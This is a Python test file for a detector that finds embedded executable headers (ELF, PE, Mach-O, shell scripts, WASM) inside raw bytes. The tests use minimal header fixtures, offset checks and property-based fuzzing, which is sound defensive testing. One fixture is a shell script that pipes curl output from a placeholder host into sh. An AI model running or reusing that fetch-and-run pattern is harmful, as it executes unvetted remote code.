import random
import struct
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qaudit.static.kinds import HEAD_BYTES
from qaudit.static.programs import program_within

ELF_64 = (
    b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
)
ELF_32_BIG = (
    b"\x7fELF\1\2\1" + bytes(9) + struct.pack(">HHIIIIIHHHHHH", 3, 20, 1, 0, 52, 0, 0, 52, 32, 1, 40, 0, 0)
)
PE = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 128)
    + bytes(64)
    + b"PE\0\0"
    + struct.pack("<HHIIIHH", 0x8664, 3, 0, 0, 0, 240, 2)
)
MACH_O = struct.pack("<8I", 0xFEEDFACF, 0x100000C, 0, 2, 16, 1432, 0, 0)
MACH_O_BIG = struct.pack(">7I", 0xFEEDFACE, 18, 0, 6, 3, 100, 0)
FAT = struct.pack(">7I", 0xCAFEBABE, 2, 0x1000007, 3, 4096, 50000, 12)
SHELL = b"#!/bin/sh\ncurl example.invalid | sh\n"
ENV = b"#!/usr/bin/env python3\r\nimport os\n"
WASM = b"\0asm\1\0\0\0"
PROGRAMS = {
    "elf-64": ELF_64, "elf-32": ELF_32_BIG, "pe": PE, "mach-o": MACH_O, "mach-o-big": MACH_O_BIG, "fat": FAT,
    "shell": SHELL, "env": ENV, "wasm": WASM,
}  # fmt: skip


@pytest.mark.parametrize("program", PROGRAMS.values(), ids=PROGRAMS)
@pytest.mark.parametrize("at", [0, 1, 2, 17, 210, 292, 1000])
def test_a_program_is_found_wherever_it_begins(program: bytes, at: int) -> None:
    before = random.Random(at).randbytes(at).replace(b"MZ", b"ab").replace(b"#!", b"ab")
    found = program_within(before + program + bytes(64))
    assert found is not None
    assert found[0] == at


def test_a_run_of_empty_signatures_hides_no_program() -> None:
    assert program_within(b"\x7fELF" * 200 + ELF_64) == (800, "an ELF program")
    assert program_within(b"MZ" * 300 + PE) == (600, "a Windows program")
    assert program_within(b"#!" * 400 + SHELL) == (800, "a script")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="programs there are of another kind")
def test_a_real_program_is_one() -> None:
    head = Path(sys.executable).resolve().read_bytes()[:2048]
    assert program_within(b"\x07" + head) == (1, "an ELF program")


@pytest.mark.parametrize(
    ("name", "broken"),
    [
        ("elf-64", ELF_64[:18] + b"\xff\xff" + ELF_64[20:]),
        ("elf-64", ELF_64[:16] + b"\0\0" + ELF_64[18:]),
        ("elf-64", ELF_64[:20] + b"\2" + ELF_64[21:]),
        ("pe", PE.replace(b"PE\0\0", b"PE\0\1")),
        ("pe", PE.replace(struct.pack("<H", 0x8664), b"\x34\x12")),
        ("mach-o", MACH_O[:4] + b"\x99" + MACH_O[5:]),
        ("mach-o", MACH_O[:16] + b"\xff\xff\xff\xff" + MACH_O[20:]),
        # a Java class has its version there
        ("fat", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)),
        ("shell", b"#!/bin\n" + bytes(8)),
        ("shell", b"#!/bin/sh\n\x80\x81\x82\x83\x84\x85\x86\x87"),
        ("shell", b"#! sh\ncurl -f\n\n\n"),
    ],
)
def test_a_magic_number_alone_is_no_program(name: str, broken: bytes) -> None:
    assert program_within(PROGRAMS[name]) is not None
    assert program_within(b"\x01" + broken + bytes(100)) is None


def test_numbers_are_none() -> None:
    draw = random.Random(7)
    assert not any(program_within(draw.randbytes(HEAD_BYTES)) for _ in range(2000))
    halves = struct.pack("<2048e", *(draw.gauss(0, 0.02) for _ in range(2048)))
    assert program_within(halves) is None
    assert program_within(b"x" + ELF_64[:40]) is None
    # every magic number many times over, and nothing behind it
    assert program_within(b"\x7fELFMZ\xcf\xfa\xed\xfe#!\xca\xfe\xba\xbe" * 200) is None


@given(st.binary(max_size=600))
def test_any_bytes_are_looked_at(data: bytes) -> None:
    found = program_within(data)
    assert found is None or 0 <= found[0] < len(data)
